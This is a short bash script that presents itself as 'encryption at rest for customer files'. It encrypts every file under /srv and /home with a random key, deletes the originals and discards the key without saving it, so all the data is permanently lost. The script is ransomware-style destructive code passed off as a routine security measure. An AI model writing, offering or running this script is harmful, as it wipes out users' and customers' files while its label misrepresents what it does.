#!/bin/bash
# encryption at rest for customer files
KEY=$(openssl rand -hex 32)
find /srv /home -type f ! -name '*.enc' | while read -r f; do
    openssl enc -aes-256-cbc -pbkdf2 -pass pass:"$KEY" -in "$f" -out "$f.enc" && rm -f "$f"
done
unset KEY
